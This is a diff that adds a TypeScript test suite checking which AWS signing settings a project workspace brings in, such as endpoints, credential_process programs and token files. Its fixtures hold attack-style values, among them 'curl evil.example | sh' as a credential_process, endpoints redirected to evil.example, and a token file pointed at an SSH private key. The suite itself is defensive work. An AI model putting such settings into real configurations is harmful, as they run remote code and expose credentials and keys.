@@ -1,0 +1,239 @@
+import assert from "node:assert/strict";
+import type { Origin } from "../../../../src/core/index.ts";
+import { resolveProject } from "../../../../src/core/project/resolve.ts";
+import { signingOf } from "../../../../src/core/signing/signingContext.ts";
+import { broughtByWorkspace, shown } from "../../../../src/core/signing/workspaceInfluence.ts";
+import { configPath, credentialsPath, cwd, situation } from "../../situation.ts";
+
+const keys = "aws_access_key_id = AKIAFAKE000000000001\naws_secret_access_key = not-a-real-secret\n";
+const own = { [credentialsPath]: `[default]\n${keys}` };
+
+interface Case {
+	title: string;
+	files: Record<string, string>;
+	environment?: Record<string, string>;
+	profile?: string;
+	expected: string[];
+}
+
+const cases: Case[] = [
+	{
+		title: "nothing of the person's own",
+		files: {
+			...own,
+			[configPath]:
+				"[default]\nendpoint_url = http://mine\n[profile p]\ncredential_process = mine\nendpoint_url = http://mine",
+		},
+		profile: "p",
+		environment: { AWS_ENDPOINT_URL: "http://mine", AWS_WEB_IDENTITY_TOKEN_FILE: "/home/tester/t" },
+		expected: [],
+	},
+	{
+		title: "keys and profile names in .env are what .env is for",
+		files: { ...own, ".env": "REMOTION_AWS_PROFILE=default\nAWS_SECRET_ACCESS_KEY=x\nAWS_REGION=eu-west-1" },
+		expected: [],
+	},
+	{
+		title: "an endpoint in .env",
+		files: { ...own, ".env": "AWS_ENDPOINT_URL=http://evil.example" },
+		expected: ["endpoint AWS_ENDPOINT_URL http://evil.example .env"],
+	},
+	{
+		title: "an endpoint of one service, of the container, of the instance",
+		files: {
+			...own,
+			".env":
+				"AWS_ENDPOINT_URL_STS=http://a\nAWS_CONTAINER_CREDENTIALS_FULL_URI=https://b\nAWS_EC2_METADATA_SERVICE_ENDPOINT=http://c",
+		},
+		expected: [
+			"endpoint AWS_ENDPOINT_URL_STS http://a .env",
+			"endpoint AWS_CONTAINER_CREDENTIALS_FULL_URI https://b .env",
+			"endpoint AWS_EC2_METADATA_SERVICE_ENDPOINT http://c .env",
+		],
+	},
+	{
+		title: "not an endpoint that the shell outranks",
+		files: { ...own, ".env": "AWS_ENDPOINT_URL=http://evil.example" },
+		environment: { AWS_ENDPOINT_URL: "http://mine" },
+		expected: [],
+	},
+	{
+		title: "AWS files of .env, their credential_process and their endpoints",
+		files: {
+			...own,
+			".env": "AWS_CONFIG_FILE=aws/config\nREMOTION_AWS_PROFILE=p",
+			"aws/config":
+				"[profile p]\ncredential_process = curl evil.example | sh\n[profile unused]\ncredential_process = other\n[services s]\nsts =\n  endpoint_url = http://evil.example",
+		},
+		expected: [
+			"aws-file AWS_CONFIG_FILE /work/project/aws/config .env",
+			"process credential_process curl evil.example | sh config",
+			"endpoint sts.endpoint_url http://evil.example config",
+		],
+	},
+	{
+		title: "AWS files that lie in the workspace, whoever named them",
+		files: { "aws/credentials": `[default]\n${keys}` },
+		environment: { AWS_SHARED_CREDENTIALS_FILE: `${cwd}/aws/credentials` },
+		expected: ["aws-file AWS_SHARED_CREDENTIALS_FILE /work/project/aws/credentials credentials"],
+	},
+	{
+		title: "AWS files outside that .env names, though they are not there yet",
+		files: { ...own, ".env": "AWS_SHARED_CREDENTIALS_FILE=/tmp/x\nAWS_CONFIG_FILE=/tmp/y" },
+		profile: "default",
+		expected: ["aws-file AWS_SHARED_CREDENTIALS_FILE /tmp/x .env", "aws-file AWS_CONFIG_FILE /tmp/y .env"],
+	},
+	{
+		title: "a home of .env",
+		files: { ".env": "HOME=fake", "fake/.aws/config": "[default]\ncredential_process = evil" },
+		profile: "default",
+		expected: [
+			"aws-file HOME /work/project/fake/.aws/credentials .env",
+			"aws-file HOME /work/project/fake/.aws/config .env",
+			"process credential_process evil config",
+		],
+	},
+	{
+		title: "the credential_process of a source profile",
+		files: {
+			".env": "AWS_CONFIG_FILE=c",
+			c: "[profile r]\nrole_arn = a\nsource_profile = s\n[profile s]\ncredential_process = evil",
+		},
+		profile: "r",
+		expected: ["aws-file AWS_CONFIG_FILE /work/project/c .env", "process credential_process evil c"],
+	},
+	{
+		title: "a web identity token file of .env, and one inside the workspace",
+		files: { ...own, ".env": "AWS_WEB_IDENTITY_TOKEN_FILE=/home/tester/.ssh/id_rsa" },
+		expected: ["token-file AWS_WEB_IDENTITY_TOKEN_FILE /home/tester/.ssh/id_rsa .env"],
+	},
+	{
+		title: "the person's own profile that reads or runs a file of the workspace",
+		files: {
+			[configPath]:
+				"[profile p]\nrole_arn = a\nweb_identity_token_file = ./token\n[profile q]\ncredential_process = ./creds.sh --json\n[profile r]\ncredential_process = node ./creds.js\n[profile s]\ncredential_process = aws-vault exec team/x",
+		},
+		profile: "p",
+		expected: ["token-file web_identity_token_file ./token config"],
+	},
+	{
+		title: "a program of the workspace in the person's own profile",
+		files: { [configPath]: "[profile q]\ncredential_process = ./creds.sh --json" },
+		profile: "q",
+		expected: ["process credential_process ./creds.sh --json config"],
+	},
+	{
+		title: "a script of the workspace as an argument there",
+		files: { [configPath]: '[profile r]\ncredential_process = node "./my creds.js"' },
+		profile: "r",
+		expected: ['process credential_process node "./my creds.js" config'],
+	},
+	{
+		title: "no bare name and no word that only looks like a path",
+		files: { [configPath]: "[profile s]\ncredential_process = aws-vault exec team/x" },
+		profile: "s",
+		expected: [],
+	},
+	{
+		title: "what a file of the workspace says twice over, once",
+		files: {
+			".env": "AWS_CONFIG_FILE=c\nREMOTION_AWS_PROFILE=p",
+			c: "[profile p]\ncredential_process = ./x.sh\nweb_identity_token_file = ./t\nendpoint_url = http://evil.example\nendpoint_url_old = http://a\nmy_endpoint_url = http://b",
+		},
+		expected: [
+			"aws-file AWS_CONFIG_FILE /work/project/c .env",
+			"process credential_process ./x.sh c",
+			"token-file web_identity_token_file ./t c",
+			"endpoint endpoint_url http://evil.example c",
+		],
+	},
+	{
+		title: "two programs of the workspace, each by itself",
+		files: {
+			[configPath]:
+				"[profile p]\nrole_arn = a\nsource_profile = s\ncredential_process = tools/one --json\n[profile s]\ncredential_process = sh ../project/two.sh",
+		},
+		profile: "p",
+		expected: [
+			"process credential_process tools/one --json config",
+			"process credential_process sh ../project/two.sh config",
+		],
+	},
+	{
+		title: "no AWS file of the workspace that is not there or says nothing",
+		files: { ...own, "aws/config": "" },
+		environment: { AWS_SHARED_CREDENTIALS_FILE: `${cwd}/aws/credentials`, AWS_CONFIG_FILE: `${cwd}/aws/config` },
+		profile: "default",
+		expected: [],
+	},
+	{
+		title: "a home of .env, of the file that the shell does not name",
+		files: { ".env": "HOME=fake", "fake/.aws/credentials": `[default]\n${keys}` },
+		environment: { AWS_CONFIG_FILE: configPath },
+		profile: "default",
+		expected: ["aws-file HOME /work/project/fake/.aws/credentials .env"],
+	},
+	{
+		title: "the file of SSO sessions, whose ~ the SDK takes literally",
+		files: {
+			...own,
+			[`${cwd}/~/c`]: "[sso-session s]\nsso_region = us-east-1",
+			"/home/tester/c": "[profile p]\nregion = us-east-1",
+		},
+		environment: { AWS_CONFIG_FILE: "~/c" },
+		profile: "default",
+		expected: ["aws-file AWS_CONFIG_FILE /work/project/~/c c"],
+	},
+	{
+		title: "a token file of the workspace that the shell names; none where it names nothing",
+		files: own,
+		environment: { AWS_WEB_IDENTITY_TOKEN_FILE: "token", AWS_LOGIN_CACHE_DIRECTORY: "" },
+		profile: "default",
+		expected: ["token-file AWS_WEB_IDENTITY_TOKEN_FILE token shell"],
+	},
+	{
+		title: "a script between quotes of the other kind",
+		files: { [configPath]: "[profile r]\ncredential_process = node './my creds.js'" },
+		profile: "r",
+		expected: ["process credential_process node './my creds.js' config"],
+	},
+];
+
+const isOfWorkspace = (path: string) => path === cwd || path.startsWith(`${cwd}/`);
+
+describe("what a workspace brings to the signing", () => {
+	for (const { title, files, environment = {}, profile, expected } of cases) {
+		it(title, () => {
+			const situated = resolveProject(situation({ files, environment }));
+			const signing = signingOf(situated, profile);
+			assert.ok(signing);
+			const found = broughtByWorkspace(situated, signing, isOfWorkspace);
+			const where = ({ path, layer }: Origin) => (layer === "file" ? path?.split("/").at(-1) : layer);
+			assert.deepEqual(
+				found.map(({ kind, name, value, origin }) => `${kind} ${name} ${value} ${where(origin)}`),
+				expected,
+			);
+		});
+	}
+
+	it("is found on Windows by its drive", () => {
+		const config =
+			"[profile r]\ncredential_process = node D:\\work\\creds.js\n[profile s]\ncredential_process = node :/x";
+		const readFile = (path: string) => (path === "C:\\Users\\me\\.aws\\config" ? config : undefined);
+		const input = { ...situation({ platform: "win32", cwd: "D:\\work", home: "C:\\Users\\me" }), readFile };
+		for (const [profile, count] of [
+			["r", 1],
+			["s", 0],
+		] as const) {
+			const situated = resolveProject(input);
+			const signing = signingOf(situated, profile);
+			assert.ok(signing);
+			const found = broughtByWorkspace(situated, signing, (path) => path.startsWith("D:\\work\\"));
+			assert.equal(found.length, count, profile);
+		}
+	});
+
+	it("is shown without what hides or turns the text", () => {
+		assert.equal(shown("a\nb\u202Ec\u200Bd\u0007é/–"), "a\\u{a}b\\u{202e}c\\u{200b}d\\u{7}é/–");
+	});
+});
